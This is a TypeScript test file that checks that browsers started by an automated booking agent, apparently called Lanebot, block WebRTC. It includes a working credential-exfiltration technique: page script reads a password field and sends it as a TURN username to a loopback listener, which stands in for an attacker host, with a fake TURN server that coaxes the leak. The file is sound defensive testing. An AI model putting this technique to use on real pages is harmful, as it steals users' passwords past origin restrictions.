// Issue 13, item 2: WebRTC must not get past the origin confinement. A page on an allowed origin
// read the typed password and sent it inside a TURN username to a port the confinement never sees
// (route interception only sees HTTP). Every browser and context Lanebot creates is checked here: the
// booking browser (fresh and persistent profile), teach's recording browser (launched, or a context in
// a connected browser) and the dry run's. A listener on another loopback port, UDP and TCP, must get
// nothing. The launch flags alone are shown to stop UDP (not TCP: that is the init script's job).
import { createSocket, type Socket } from 'node:dgram';
import { createServer as createTcp, type Server as TcpServer } from 'node:net';
import { createServer as createHttp, type Server as HttpServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { BROWSER_ARGS, launchBrowser } from '../../agent/browser/launch';
import { startTeach } from '../../agent/recipes/teach';
import { tempDir, removeDir } from './helpers';

let udp: Socket;
let tcp: TcpServer;
let web: HttpServer;
let port: number;
let origin: string;
let received = { udp: 0, tcp: 0, bytes: '' };

/**
 * A TURN server's first answer: 401 with a realm and a nonce, as a real one gives to an Allocate
 * without credentials. Browsers then send the Allocate again with the USERNAME attribute, which is
 * where a hostile page puts what it stole.
 */
function unauthorized(request: Buffer): Buffer | undefined {
  if (request.length < 20 || request.readUInt16BE(0) !== 0x0003 || request.readUInt32BE(4) !== 0x2112a442) return undefined;
  const attr = (type: number, value: Buffer) => {
    const pad = Buffer.alloc((4 - (value.length % 4)) % 4);
    const head = Buffer.alloc(4);
    head.writeUInt16BE(type, 0);
    head.writeUInt16BE(value.length, 2);
    return Buffer.concat([head, value, pad]);
  };
  const body = Buffer.concat([
    attr(0x0009, Buffer.concat([Buffer.from([0, 0, 4, 1]), Buffer.from('Unauthorized')])),
    attr(0x0014, Buffer.from('lanebot.test')),
    attr(0x0015, Buffer.from('nonce-0123456789')),
  ]);
  const head = Buffer.alloc(20);
  head.writeUInt16BE(0x0113, 0);
  head.writeUInt16BE(body.length, 2);
  request.copy(head, 4, 4, 20); // magic cookie and transaction id
  return Buffer.concat([head, body]);
}

const PAGE = '<!doctype html><title>Pool</title><form><input name="user"><input type="password" name="pw" value="hunter2-Secret!"></form>';

beforeAll(async () => {
  udp = createSocket('udp4');
  udp.on('message', (m, from) => {
    received.udp++;
    received.bytes += m.toString('latin1');
    const answer = unauthorized(m);
    if (answer) udp.send(answer, from.port, from.address);
  });
  await new Promise<void>((r) => udp.bind(0, '127.0.0.1', () => r()));
  port = (udp.address() as AddressInfo).port;
  tcp = createTcp((s) => {
    s.on('error', () => undefined);
    s.on('data', (d) => {
      received.tcp++;
      received.bytes += d.toString('latin1');
      const answer = unauthorized(d);
      if (answer) s.write(answer);
    });
  });
  await new Promise<void>((r) => tcp.listen(port, '127.0.0.1', () => r()));
  web = createHttp((_req, res) => res.writeHead(200, { 'content-type': 'text/html' }).end(PAGE));
  await new Promise<void>((r) => web.listen(0, '127.0.0.1', () => r()));
  origin = `http://127.0.0.1:${(web.address() as AddressInfo).port}`;
});
afterAll(async () => {
  udp?.close();
  await new Promise((r) => tcp?.close(r));
  await new Promise((r) => web?.close(r));
});
beforeEach(() => {
  received = { udp: 0, tcp: 0, bytes: '' };
});

/** What a hostile page on the allowed origin tries: STUN, TURN over UDP and TCP, the password as TURN username. */
async function tryWebRtc(page: Page): Promise<string[]> {
  await page.goto(`${origin}/`);
  return page.evaluate(async (p) => {
    const out: string[] = [];
    const pw = (document.querySelector('input[name=pw]') as HTMLInputElement).value;
    const attempt = async (w: Window & typeof globalThis, label: string) => {
      const W = w as unknown as Record<string, unknown>;
      const Ctor = (W.RTCPeerConnection ?? W.webkitRTCPeerConnection) as typeof RTCPeerConnection | undefined;
      out.push(`${label}: ${typeof Ctor}`);
      if (typeof Ctor !== 'function') return;
      const pc = new Ctor({
        iceServers: [{ urls: `stun:127.0.0.1:${p}` }, { urls: [`turn:127.0.0.1:${p}?transport=udp`, `turn:127.0.0.1:${p}?transport=tcp`], username: pw, credential: 'x' }],
      });
      pc.createDataChannel('leak');
      await pc.setLocalDescription(await pc.createOffer());
    };
    await attempt(window, 'page');
    const frame = document.createElement('iframe');
    document.body.append(frame);
    await attempt(frame.contentWindow as Window & typeof globalThis, 'fresh iframe');
    await new Promise((r) => setTimeout(r, 3000));
    return out;
  }, port);
}

function expectNothingReceived(apis: string[]) {
  expect(apis).toEqual(['page: undefined', 'fresh iframe: undefined']);
  expect(received).toEqual({ udp: 0, tcp: 0, bytes: '' });
}

describe('no WebRTC in any browser Lanebot starts', () => {
  it('the harness can see a leak: a plain Chromium sends STUN/TURN over UDP and TCP, the password inside', async () => {
    const b = await chromium.launch({ executablePath: '/usr/bin/chromium', args: ['--no-sandbox', '--disable-gpu'] });
    try {
      await tryWebRtc(await b.newPage());
      expect(received.udp).toBeGreaterThan(0);
      expect(received.tcp).toBeGreaterThan(0);
      expect(received.bytes).toContain('hunter2-Secret!');
    } finally {
      await b.close();
    }
  }, 30_000);

  it('the launch flags alone stop every UDP packet (TCP TURN needs the init script)', async () => {
    const b = await chromium.launch({ executablePath: '/usr/bin/chromium', args: BROWSER_ARGS });
    try {
      await tryWebRtc(await b.newPage());
      expect(received.udp).toBe(0);
    } finally {
      await b.close();
    }
  }, 30_000);

  it('the booking browser (fresh context): 0 packets', async () => {
    const launched = await launchBrowser({ executablePath: '/usr/bin/chromium', headless: true });
    try {
      expectNothingReceived(await tryWebRtc(await launched.context.newPage()));
    } finally {
      await launched.close();
    }
  }, 30_000);

  it('the booking browser with a persistent profile (kept cookies): 0 packets', async () => {
    const dir = await tempDir('webrtc-profile');
    const launched = await launchBrowser({ executablePath: '/usr/bin/chromium', headless: true, userDataDir: dir });
    try {
      expectNothingReceived(await tryWebRtc(await launched.context.newPage()));
    } finally {
      await launched.close();
      await removeDir(dir);
    }
  }, 30_000);

  const teachOptions = { venue: { startUrl: `http://127.0.0.1:1/`, allowedOrigins: [] as string[], timeZone: 'Europe/London' }, secrets: { names: [], resolve: async () => undefined }, want: { date: '2026-12-01' }, until: 'close' as const, check: false };

  it('teach’s recording browser (launched by teach): 0 packets', async () => {
    const s = await startTeach({ ...teachOptions, venue: { ...teachOptions.venue, startUrl: `${origin}/`, allowedOrigins: [origin] }, browser: { executablePath: '/usr/bin/chromium', headless: true } });
    try {
      expectNothingReceived(await tryWebRtc(s.page));
    } finally {
      await s.cancel();
    }
  }, 30_000);

  it('teach in a connected browser (a new context in it): 0 packets', async () => {
    const b = await chromium.launch({ executablePath: '/usr/bin/chromium', args: BROWSER_ARGS });
    try {
      const s = await startTeach({ ...teachOptions, venue: { ...teachOptions.venue, startUrl: `${origin}/`, allowedOrigins: [origin] }, connectedBrowser: b });
      try {
        expectNothingReceived(await tryWebRtc(s.page));
      } finally {
        await s.cancel();
      }
    } finally {
      await b.close();
    }
  }, 30_000);
});
